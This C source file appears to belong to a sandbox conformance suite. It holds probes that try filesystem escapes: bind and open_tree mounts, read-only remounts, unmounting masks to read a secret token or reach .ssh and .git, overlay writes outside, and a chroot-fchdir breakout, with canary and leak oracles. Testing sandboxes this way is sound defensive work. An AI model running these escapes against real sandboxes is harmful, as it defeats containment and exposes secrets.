/*
 * Rows of area fs: making the file system look different. Everything happens
 * in a mount namespace of the attempt's own, made private first, so that even
 * a run as root without a sandbox leaves the host's mounts alone.
 */
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/mount.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "base/auto.h"
#include "conformance/probe.h"
#include "conformance/probes/host.h"
#include "conformance/probes/tools.h"

/* <sys/mount.h> and <linux/mount.h> cannot be included together with every libc; the calls are made
 * by number, and these are the flags of mount(2) and umount2(2). */
enum {
    BIND = 4096,
    RECURSIVE = 16384,
    PRIVATE = 1 << 18,
    REMOUNT = 32,
    DETACH = 2,
    CLONE_MOUNT = 1,           /* OPEN_TREE_CLONE */
    AT_RECURSIVE_FLAG = 0x8000 /* AT_RECURSIVE */
};

static int mount_at(const char *source, const char *target, const char *type, unsigned long flags,
                    const char *data)
{
    return outcome_of(syscall(SYS_mount, source, target, type, flags, data));
}

/* Never act in the host's own mount namespace: where it cannot be left, that is the outcome. */
static int in_own_mounts(int (*act)(const struct attempt *a), const struct attempt *a);

static int (*wanted_act)(const struct attempt *a);

static int act_in_private(const struct attempt *a)
{
    int outcome = mount_at(NULL, "/", NULL, RECURSIVE | PRIVATE, NULL);

    return outcome != 0 ? outcome : wanted_act(a);
}

static int leave_mounts_and_act(const struct attempt *a)
{
    if (unshare(CLONE_NEWNS) < 0)
        return errno;
    return act_in_private(a);
}

/* With the capabilities that are there, and with those of a user namespace. */
static int in_own_mounts(int (*act)(const struct attempt *a), const struct attempt *a)
{
    int outcome;

    wanted_act = act;
    outcome = in_child(leave_mounts_and_act, a);
    return outcome_join(outcome, in_new_namespaces(CLONE_NEWNS, act_in_private, a));
}

/* fs.mount-bind ---------------------------------------------------------------------------------- */

static int write_at(int directory, const char *name, const char *text)
{
    AUTO_CLOSE int fd = openat(directory, name, O_WRONLY | O_CLOEXEC);

    return fd < 0 ? errno : write_at_start(fd, text);
}

static int bind_and_write(const struct attempt *a)
{
    const char *view = path_in(a->ws, "view");
    const char *root_view = path_in(a->ws, "root-view");
    int outcome;

    (void)mkdir(view, 0755);
    (void)mkdir(root_view, 0755);
    outcome = mount_at(a->outside, view, NULL, BIND, NULL);
    outcome = outcome_join(outcome, try_write(path_in(view, "canary.txt"), a->nonce));
    if (mount_at("/", root_view, NULL, BIND | RECURSIVE, NULL) == 0)
        outcome = outcome_join(
            outcome, try_write(path_in(root_view, path_in(a->outside, "canary.txt")), a->nonce));
    return outcome;
}

/* open_tree(2), move_mount(2). */
static int clone_and_write(const struct attempt *a)
{
    const char *view = path_in(a->ws, "view-2");
    AUTO_CLOSE int tree =
        (int)syscall(SYS_open_tree, AT_FDCWD, a->outside, CLONE_MOUNT | O_CLOEXEC);
    int outcome;

    if (tree < 0)
        return errno;
    (void)mkdir(view, 0755);
    outcome = write_at(tree, "canary.txt", a->nonce);
    outcome = outcome_join(outcome, outcome_of(syscall(SYS_move_mount, tree, "", AT_FDCWD, view,
                                                       MOVE_MOUNT_F_EMPTY_PATH)));
    return outcome_join(outcome, try_write(path_in(view, "canary.txt"), a->nonce));
}

static int mount_bind(const struct attempt *a)
{
    return outcome_join(in_own_mounts(bind_and_write, a), in_own_mounts(clone_and_write, a));
}

/* fs.remount-rw ---------------------------------------------------------------------------------- */

/* Every mount that S/outside lies under, "/" included, the deepest last. */
static int remount_all(const struct attempt *a)
{
    struct mount_attr writable = {.attr_clr = MOUNT_ATTR_RDONLY};
    AUTO_FILE FILE *mounts = fopen("/proc/self/mountinfo", "re");
    char path[PATH_MAX];
    int outcome = ATTEMPT_UNABLE;

    while (mounts != NULL && fscanf(mounts, "%*s %*s %*s %*s %4095s %*[^\n]", path) == 1) {
        const size_t length = strlen(path);

        if (strncmp(path, a->outside, length) != 0)
            continue;
        outcome = outcome_join(outcome, mount_at(NULL, path, NULL, REMOUNT | BIND, NULL));
        outcome = outcome_join(outcome,
                               outcome_of(syscall(SYS_mount_setattr, AT_FDCWD, path,
                                                  AT_RECURSIVE_FLAG, &writable, sizeof writable)));
    }
    return outcome_join(outcome, try_write(path_in(a->outside, "canary.txt"), a->nonce));
}

/* A bind mount of the place itself, made writable afterwards. */
static int bind_self_and_remount(const struct attempt *a)
{
    struct mount_attr writable = {.attr_clr = MOUNT_ATTR_RDONLY};

    (void)mount_at(a->outside, a->outside, NULL, BIND, NULL);
    (void)mount_at(NULL, a->outside, NULL, REMOUNT | BIND, NULL);
    (void)syscall(SYS_mount_setattr, AT_FDCWD, a->outside, 0, &writable, sizeof writable);
    return try_write(path_in(a->outside, "canary.txt"), a->nonce);
}

/* A detached copy of the tree, made writable before it is used. */
static int clone_writable(const struct attempt *a)
{
    struct mount_attr writable = {.attr_clr = MOUNT_ATTR_RDONLY};
    AUTO_CLOSE int tree = (int)syscall(SYS_open_tree, AT_FDCWD, a->outside,
                                       CLONE_MOUNT | AT_RECURSIVE_FLAG | O_CLOEXEC);

    if (tree < 0)
        return errno;
    (void)syscall(SYS_mount_setattr, tree, "", AT_EMPTY_PATH | AT_RECURSIVE_FLAG, &writable,
                  sizeof writable);
    return write_at(tree, "canary.txt", a->nonce);
}

static int remount_writable(const struct attempt *a)
{
    int outcome = in_own_mounts(remount_all, a);

    outcome = outcome_join(outcome, in_own_mounts(bind_self_and_remount, a));
    return outcome_join(outcome, in_own_mounts(clone_writable, a));
}

/* fs.umount-mask --------------------------------------------------------------------------------- */

static int unmount_masks(const struct attempt *a)
{
    const char *const masks[] = {a->secret, path_in(a->secret, "token.txt"),
                                 path_in(a->home, ".ssh"), path_in(a->ws, ".git")};
    int outcome = ATTEMPT_UNABLE;

    for (size_t i = 0; i < ARRAY_SIZE(masks); i++) {
        outcome = outcome_join(outcome, outcome_of(syscall(SYS_umount2, masks[i], DETACH)));
        outcome = outcome_join(outcome, outcome_of(syscall(SYS_umount2, masks[i], 0)));
    }
    /* What is under a mask counts only if the mask was what hid it. */
    if (outcome == 0)
        (void)try_append(path_in(a->ws, ".git/config"), "# unmasked\n");
    return outcome_join(outcome, try_leak_file(a, path_in(a->secret, "token.txt")));
}

/* A copy of the mount without those that lie upon it shows what they hide (open_tree(2)). */
static int look_under_masks(const struct attempt *a)
{
    AUTO_CLOSE int tree = (int)syscall(SYS_open_tree, AT_FDCWD, a->root, CLONE_MOUNT | O_CLOEXEC);
    char bytes[4096];
    ssize_t size;

    if (tree < 0)
        return errno;
    AUTO_CLOSE int git = openat(tree, "ws/.git/config", O_WRONLY | O_APPEND | O_CLOEXEC);
    if (git >= 0)
        (void)!write(git, "# under the mask\n", strlen("# under the mask\n"));
    AUTO_CLOSE int fd = openat(tree, "secret/token.txt", O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return errno;
    size = read(fd, bytes, sizeof bytes);
    if (size < 0)
        return errno;
    leak(a, bytes, (size_t)size);
    return 0;
}

static int bind_under_masks(const struct attempt *a)
{
    const char *view = path_in(a->ws, "view");

    (void)mkdir(view, 0755);
    if (mount_at(a->root, view, NULL, BIND, NULL) != 0)
        return errno;
    return try_leak_file(a, path_in(view, "secret/token.txt"));
}

static int unmask(const struct attempt *a)
{
    int outcome = in_own_mounts(unmount_masks, a);

    outcome = outcome_join(outcome, in_own_mounts(look_under_masks, a));
    return outcome_join(outcome, in_own_mounts(bind_under_masks, a));
}

/* fs.overlay-fuse -------------------------------------------------------------------------------- */

static int prepare_layers(struct scene *scene, struct error *err)
{
    if (host_make_directory(scene, path_in(scene->outside, "upper"), 0755, err) < 0)
        return -1;
    return host_make_directory(scene, path_in(scene->outside, "work"), 0755, err);
}

/* What is written to an overlay lands in its upper directory: here, outside. */
static int overlay_and_write(const struct attempt *a)
{
    const char *lower = path_in(a->ws, "lower");
    const char *merged = path_in(a->ws, "merged");
    char options[3 * PATH_MAX];
    int outcome;

    (void)mkdir(lower, 0755);
    (void)mkdir(merged, 0755);
    (void)snprintf(options, sizeof options,
                   "userxattr,lowerdir=%s,upperdir=%s/upper,workdir=%s/work", lower, a->outside,
                   a->outside);
    outcome = mount_at("overlay", merged, "overlay", 0, options);
    if (outcome != 0)
        outcome = mount_at("overlay", merged, "overlay", 0, options + strlen("userxattr,"));
    return outcome != 0 ? outcome : try_create(path_in(merged, "by-overlay"), a->nonce);
}

static int mount_overlay(const struct attempt *a)
{
    return in_own_mounts(overlay_and_write, a);
}

/* fs.chroot-fchdir -------------------------------------------------------------------------------- */

enum {
    UPWARDS = 64
};

/* The classic: a directory kept from before chroot(2) is above the new root. */
static int chroot_and_climb(const struct attempt *a)
{
    const char *jail = path_in(a->ws, "jail");
    char canary[PATH_MAX];
    AUTO_CLOSE int above = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);

    (void)snprintf(canary, sizeof canary, "%s/canary.txt", a->outside);
    (void)mkdir(jail, 0755);
    if (chroot(jail) < 0)
        return errno;
    if (above >= 0)
        (void)fchdir(above);
    for (int i = 0; i < UPWARDS; i++)
        (void)!chdir("..");
    if (chroot(".") < 0)
        return errno;
    return try_write(canary, a->nonce);
}

static int escape_chroot(const struct attempt *a)
{
    return outcome_join(in_child(chroot_and_climb, a), in_new_namespaces(0, chroot_and_climb, a));
}

static const struct probe rows[] = {
    {
        .id = "fs.mount-bind",
        .claim = "no new mount makes an outside place writable",
        .technique =
            "binds S/outside and / into the workspace with mount, open_tree and move_mount, "
            "with the capabilities there are and as root of a user namespace",
        .source = "CVE-2021-41133; mount(2), open_tree(2), mount_namespaces(7)",
        .severity = SEVERITY_CRITICAL,
        .platforms = PLATFORM_UNIX,
        .oracles = ORACLE_CANARY,
        .needs = "userns",
        .attempt = mount_bind,
    },
    {
        .id = "fs.remount-rw",
        .claim = "a read-only mount stays read-only",
        .technique =
            "remount,bind and mount_setattr on every mount above S/outside, on a bind of it "
            "and on a detached copy",
        .source = "mount_namespaces(7), locked flags; mount_setattr(2)",
        .severity = SEVERITY_CRITICAL,
        .platforms = PLATFORM_UNIX,
        .oracles = ORACLE_CANARY,
        .needs = "userns",
        .attempt = remount_writable,
    },
    {
        .id = "fs.umount-mask",
        .claim = "nobody sees what lies under a mask",
        .technique = "unmounts masks of denied and protected paths, clones and binds the mount "
                     "without what lies upon it",
        .source = "CVE-2021-41133 class; mount_namespaces(7), MNT_LOCKED; open_tree(2)",
        .severity = SEVERITY_CRITICAL,
        .platforms = PLATFORM_UNIX,
        .oracles = ORACLE_LEAK,
        .needs = "userns",
        .attempt = unmask,
    },
    {
        .id = "fs.overlay-fuse",
        .claim = "an overlay writes nothing outside",
        .technique =
            "mounts an overlay whose upper directory is outside, in a namespace of its own, "
            "and creates a file in it",
        .source = "Linux Documentation/filesystems/overlayfs.rst; mount(2)",
        .severity = SEVERITY_LOW,
        .platforms = PLATFORM_UNIX,
        .oracles = ORACLE_CANARY,
        .needs = "userns",
        .attempt = mount_overlay,
        .prepare = prepare_layers,
    },
    {
        .id = "fs.chroot-fchdir",
        .claim = "chroot and a kept directory lead nowhere new",
        .technique = "chroot into the workspace, fchdir to a directory kept from before, up and "
                     "chroot again, then a write outside",
        .source = "chroot(2)",
        .severity = SEVERITY_HIGH,
        .platforms = PLATFORM_UNIX,
        .oracles = ORACLE_CANARY,
        .needs = "userns",
        .attempt = escape_chroot,
    },
};

PROBE_FAMILY(family_fs_mount, rows);
